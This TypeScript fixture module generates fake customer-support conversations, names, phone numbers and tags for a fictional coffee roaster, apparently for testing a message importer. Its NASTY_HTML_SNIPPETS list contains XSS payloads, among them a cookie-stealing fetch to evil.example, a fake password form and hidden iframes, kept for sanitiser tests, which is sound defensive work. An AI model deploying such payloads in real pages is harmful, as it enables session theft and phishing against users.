/**
 * Word material for realistic conversations: a small coffee roaster's support, sales and SMS
 * traffic, in English and French, with names and text from several scripts and some emoji.
 * All domains are reserved for documentation (RFC 2606/6761): nothing generated can reach a
 * real mailbox even if a test relays it by mistake.
 */
import type { Rng } from './random.ts';

export const COMPANY = {
  slug: 'acme',
  name: 'Acme Roasters',
  domain: 'acme.example',
} as const;

export const TEAMMATE_PEOPLE = [
  { first: 'Sam', last: 'Lee', username: 'sam' },
  { first: 'Alex', last: 'Martin', username: 'alex' },
  { first: 'Jane', last: 'Doe', username: 'jane' },
  { first: 'Zoë', last: 'Müller', username: 'zoe' },
  { first: 'Łukasz', last: 'Nowak', username: 'lukasz' },
  { first: 'Aiko', last: 'Tanaka', username: 'aiko' },
  { first: 'Chloé', last: 'Dubois', username: 'chloe' },
] as const;

/** Bots that post comments (integrations and rules), as Front's Teammate.type allows. */
export const BOT_PEOPLE = [
  { first: 'Jira', last: 'Integration', username: 'jira', type: 'integration' },
  { first: 'Auto-tagging', last: 'rule', username: 'rule-autotag', type: 'rule' },
] as const;

const FIRST_NAMES = [
  'Pat',
  'Maria',
  'José',
  'Fatima',
  'Oliver',
  'Amélie',
  'Søren',
  'Ngozi',
  'Wei',
  'Priya',
  'Hannah',
  'Mateo',
  'Olúwaseun',
  'Ines',
  'Björn',
  'Yuki',
  'Chiara',
  'Dmitri',
  'Aisha',
  'Liam',
  'Zoé',
  'François',
  'Mei',
  'Noah',
];
const LAST_NAMES = [
  'Ivanova',
  'García',
  'Nguyen',
  'Okafor',
  'Schmidt',
  "O'Brien",
  'Kowalski',
  'Rossi',
  'Haddad',
  'Johansson',
  'Dupont',
  'Fernández',
  'Kim',
  'Patel',
  'Smith',
  'Lefèvre',
  'Novák',
  'Yılmaz',
  'Andersson',
  'Moreau',
];
/** Names not written in Latin script, in their usual "family name first" order where relevant. */
const NON_LATIN_NAMES = ['王芳', '佐藤 花子', 'Дмитрий Иванов', 'محمد علي', 'Ελένη Παπαδοπούλου', '김민준'];
const BUSINESSES = [
  'Café Lumière',
  'Bean There',
  'The Daily Grind',
  'Kaffeehaus Süd',
  'Brew & Co',
  'Tostadores Unidos',
  'Espresso Yourself',
];
const CUSTOMER_DOMAINS = [
  'example.com',
  'example.org',
  'example.net',
  'mail.example.com',
  'customers.example',
];

export interface PersonName {
  display: string;
  emailLocal: string;
}

export function customerName(rng: Rng): PersonName {
  if (rng.chance(0.08)) {
    const display = rng.pick(NON_LATIN_NAMES);
    return { display, emailLocal: `customer${rng.int(100, 999)}` };
  }
  const first = rng.pick(FIRST_NAMES);
  const last = rng.pick(LAST_NAMES);
  return { display: `${first} ${last}`, emailLocal: asciiLocalPart(`${first}.${last}`) };
}

export function businessName(rng: Rng): string {
  return rng.pick(BUSINESSES);
}

export function customerDomain(rng: Rng): string {
  return rng.pick(CUSTOMER_DOMAINS);
}

/** "Łukasz O'Brien" -> "lukasz.obrien": what people actually pick as a mailbox name. */
export function asciiLocalPart(text: string): string {
  return text
    .normalize('NFD')
    .replace(/[\u0300-\u036f]/g, '')
    .replace(/ł/gi, 'l')
    .replace(/ø/gi, 'o')
    .replace(/ı/g, 'i')
    .toLowerCase()
    .replace(/[^a-z0-9.]+/g, '');
}

/** Fictional-use phone ranges (US 555-01xx, UK Ofcom drama, FR ARCEP 0639 98, AU ACMA), in E.164. */
export function phoneNumber(rng: Rng): string {
  const digits = (count: number): string => String(rng.int(0, 10 ** count - 1)).padStart(count, '0');
  return rng.weighted<() => string>([
    [() => `+1${rng.pick(['212', '415', '512', '617', '773'])}55501${digits(2)}`, 6],
    [() => `+447700900${digits(3)}`, 2],
    [() => `+33639980${digits(3)}`, 2],
    [() => `+61491570${digits(3)}`, 1],
  ])();
}

// ---------------------------------------------------------------------------------------------
// Conversation topics

export interface Topic {
  language: 'en' | 'fr';
  subjects: string[];
  customerOpeners: string[];
  customerFollowUps: string[];
  agentReplies: string[];
  smsFromCustomer: string[];
  smsFromTeam: string[];
}

const TOPICS: Topic[] = [
  {
    language: 'en',
    subjects: ['Order #{n} hasn’t arrived', 'Where is my order? 📦', 'Delivery of order {n}'],
    customerOpeners: [
      'I ordered a bag of the Ethiopia Yirgacheffe on the {d}th and the tracking has not moved for four days.',
      'My order {n} still says "label created". Could you check with the carrier?',
    ],
    customerFollowUps: [
      'Thanks! Still nothing today though.',
      'It finally arrived, thank you so much 🙏',
      'Any news on this?',
    ],
    agentReplies: [
      'Sorry about the wait! I checked with the carrier and the parcel is at the local depot; it should reach you tomorrow.',
      'I have reshipped your order with express delivery, you will get a new tracking link shortly.',
    ],
    smsFromCustomer: ['Hi, any update on order {n}?', 'Package still not here 😕', 'Got it, thanks!'],
    smsFromTeam: [
      'Hi! Your order {n} is out for delivery today 🚚',
      'Tracking: https://track.example/{n}',
      'Sorry for the delay, we are on it.',
    ],
  },
  {
    language: 'en',
    subjects: ['Refund request 💸', 'Refund for damaged grinder', 'Return & refund — order {n}'],
    customerOpeners: [
      'The grinder arrived with a cracked hopper. I would like a refund or a replacement.',
      'I was charged twice for order {n}. Please refund one of the payments.',
    ],
    customerFollowUps: [
      'Here is a photo of the damage.',
      'Any update on the refund?',
      'Refund received, thanks.',
    ],
    agentReplies: [
      'I am sorry to hear that. I have issued a full refund; it can take 5–10 business days to show on your statement.',
      'Thanks for the photo. A replacement hopper ships today, no need to return anything.',
    ],
    smsFromCustomer: ['Was I charged twice?', 'Refund came through 👍', 'Can I return an unopened bag?'],
    smsFromTeam: [
      'We just refunded the duplicate charge.',
      'Yes, unopened bags can be returned within 30 days.',
    ],
  },
  {
    language: 'en',
    subjects: ['Wholesale pricing for {b} ☕', 'Wholesale account', 'Samples for our café'],
    customerOpeners: [
      'We run {b} and go through about 20 kg of espresso a week. Do you offer wholesale pricing?',
      'Could you send samples of your house blend and the decaf? We are opening a second location.',
    ],
    customerFollowUps: [
      'The samples were great, the team loved the decaf.',
      'Can we get net-30 terms?',
      'Let us do a call next week.',
    ],
    agentReplies: [
      'Thanks for reaching out! Our wholesale price list is attached; volumes above 15 kg/week get a further 8%.',
      'Samples are on their way. I will follow up next week to hear what your baristas think.',
    ],
    smsFromCustomer: ['Can we move our call to 3pm?', 'Delivery for {b} tomorrow?'],
    smsFromTeam: ['3pm works, talk then!', 'Yes, driver arrives between 8 and 10am.'],
  },
  {
    language: 'en',
    subjects: ['Invoice INV-2023-{n}', 'Copy of invoice please', 'VAT number on invoice'],
    customerOpeners: [
      'Could you resend invoice INV-2023-{n}? Our accountant cannot find it.',
      'Our VAT number is missing from the last invoice.',
    ],
    customerFollowUps: ['Perfect, thanks.', 'The PDF does not open on my side, could you try again?'],
    agentReplies: [
      'Here is the invoice again, with your VAT number added.',
      'Attached. Let me know if anything else is missing.',
    ],
    smsFromCustomer: ['Did you send the invoice?'],
    smsFromTeam: ['Just emailed it to you 👍'],
  },
  {
    language: 'en',
    subjects: ['Subscription change', 'Pause my subscription', 'Skip next delivery?'],
    customerOpeners: [
      'I am travelling in August, can I pause my subscription for a month?',
      'Please switch my subscription to whole beans instead of ground.',
    ],
    customerFollowUps: ['Great, thank you!', 'Actually make it two months.'],
    agentReplies: [
      'Done! Your subscription is paused until September 1st.',
      'I switched you to whole beans from the next delivery on.',
    ],
    smsFromCustomer: ['Skip next delivery pls', 'STOP', 'Can I change to decaf?'],
    smsFromTeam: ['Skipped! Next delivery on the 15th.', 'Sure, switched to decaf ☕'],
  },
  {
    language: 'fr',
    subjects: ['Problème de livraison', 'Commande n°{n} incomplète', 'Réservation atelier dégustation ☕'],
    customerOpeners: [
      'Bonjour, il manque un paquet de café décaféiné dans ma commande n°{n}.',
      'Nous voudrions réserver l’atelier dégustation pour six personnes le samedi {d}.',
    ],
    customerFollowUps: [
      'Merci beaucoup pour votre réactivité !',
      'Est-ce toujours possible ?',
      'Parfait, à samedi 😊',
    ],
    agentReplies: [
      'Toutes nos excuses ! Le paquet manquant part aujourd’hui en Colissimo.',
      'C’est noté pour six personnes samedi à 10 h. Vous trouverez l’invitation en pièce jointe.',
    ],
    smsFromCustomer: ['Bonjour, ma commande est arrivée ouverte 😕', 'On sera 7 finalement, ça passe ?'],
    smsFromTeam: ['Pas de souci, on vous renvoie un paquet.', 'Oui, 7 c’est parfait !'],
  },
];

export function pickTopic(rng: Rng, preferFrench: boolean): Topic {
  const french = TOPICS.filter((topic) => topic.language === 'fr');
  if (preferFrench && rng.chance(0.75)) return rng.pick(french);
  return rng.pick(TOPICS);
}

/** Fills `{n}` (order number), `{d}` (day) and `{b}` (business) placeholders. */
export function fillTemplate(rng: Rng, template: string, business: string): string {
  return template
    .replace(/\{n\}/g, () => String(rng.int(1000, 99999)))
    .replace(/\{d\}/g, () => String(rng.int(2, 28)))
    .replace(/\{b\}/g, business);
}

export function greeting(topic: Topic, name: string | null): string {
  const first = name?.split(' ')[0];
  if (topic.language === 'fr') return first ? `Bonjour ${first},` : 'Bonjour,';
  return first ? `Hi ${first},` : 'Hello,';
}

export function closingLine(topic: Topic, fromCustomer: boolean): string {
  if (topic.language === 'fr')
    return fromCustomer ? 'Merci d’avance !' : 'N’hésitez pas si vous avez la moindre question.';
  return fromCustomer ? 'Thanks in advance!' : 'Let me know if there is anything else I can do.';
}

export function signOff(topic: Topic, name: string | null): string {
  const closing = topic.language === 'fr' ? 'Bien cordialement,' : 'Best,';
  return name ? `${closing}\n${name}` : closing;
}

// ---------------------------------------------------------------------------------------------
// Comments

const COMMENT_TEMPLATES = [
  '@{m} can you check the billing system?',
  '@{m} this one is for you 🙏',
  'Customer is a VIP, please prioritise. cc @{m}',
  'Refund issued in Stripe.',
  'Looks like a carrier issue again 🙄',
  '@{m} @{m2} who handles wholesale in the north?',
  'Waiting on the warehouse to confirm stock.',
  'Je m’en occupe !',
  'Sent the replacement, closing.',
  '@{m} peux-tu rappeler ce client ? 📞',
  'Escalated to the roastery lead.',
  'Duplicate of the other thread, merging manually.',
];
const TINY_COMMENTS = ['👍', 'ok', '+1', 'done', '✅', 'thx', 'on it', 'merci', '🙏', 'seen'];
const BOT_COMMENTS = [
  'Jira issue SUP-{n} created',
  'Tagged automatically: carrier-delay',
  'SLA breached: first reply after 24 h',
];

export function commentBody(rng: Rng, mentionable: readonly string[]): string {
  const [first, second] = rng.sample(mentionable, 2);
  return rng
    .pick(COMMENT_TEMPLATES)
    .replace('{m2}', second ?? 'sam')
    .replace('{m}', first ?? 'alex');
}

export function tinyCommentBody(rng: Rng): string {
  return rng.pick(TINY_COMMENTS);
}

export function botCommentBody(rng: Rng): string {
  return fillTemplate(rng, rng.pick(BOT_COMMENTS), '');
}

export const DISCUSSION_SUBJECTS = [
  'Q3 planning 🗓️',
  'Holiday rota',
  'New espresso blend launch — talking points',
  'Réunion équipe café',
  'Carrier contract renewal',
  'Process: handling damaged parcels',
];

export const TAG_NAMES = [
  'billing',
  'urgent 🔥',
  'wholesale',
  'refund',
  'vip',
  'carrier-delay',
  'livraison',
  'bug',
];

// ---------------------------------------------------------------------------------------------
// Hostile HTML: what the importer's sanitiser must neutralise before showing or sending bodies.

export const NASTY_HTML_SNIPPETS = [
  '<script>alert("xss")</script>',
  '<img src="x" onerror="alert(document.cookie)">',
  '<a href="javascript:alert(1)">Click to confirm your order</a>',
  '<iframe src="https://evil.example/frame" style="display:none"></iframe>',
  '<svg onload="fetch(\'https://evil.example/steal?c=\'+document.cookie)"></svg>',
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<form action="https://evil.example/login"><input name="password" type="password"></form>',
  '<img src="https://tracker.example/pixel.gif?u=123" width="1" height="1">',
  '<object data="https://evil.example/x.swf"></object>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<p onclick="alert(1)" onmouseover="alert(2)">Hover me</p><style>body{display:none}</style>',
];

const LOG_WORDS = ['roast', 'batch', 'temp', 'ok', 'green', 'bean', 'lot', 'sample', 'cupping', 'score'];

/** A multi-megabyte HTML body: a pasted order report table, the usual culprit in real inboxes. */
export function largeHtmlTable(rng: Rng, targetChars: number): { html: string; text: string } {
  const htmlRows: string[] = [];
  const textRows: string[] = [];
  let size = 0;
  for (let row = 0; size < targetChars; row++) {
    const cells = [
      `A-${100000 + row}`,
      `${rng.pick(LOG_WORDS)} ${rng.pick(LOG_WORDS)} ${rng.int(1, 999)}`,
      (rng.int(100, 99999) / 100).toFixed(2),
      rng.pick(['shipped', 'pending', 'refunded', 'livré ✅']),
    ];
    const html = `<tr><td>${cells.join('</td><td>')}</td></tr>\n`;
    htmlRows.push(html);
    textRows.push(cells.join('\t'));
    size += html.length;
  }
  return {
    html: `<p>Full export of last quarter's orders below.</p><table border="1">\n${htmlRows.join('')}</table>`,
    text: `Full export of last quarter's orders below.\n${textRows.join('\n')}`,
  };
}
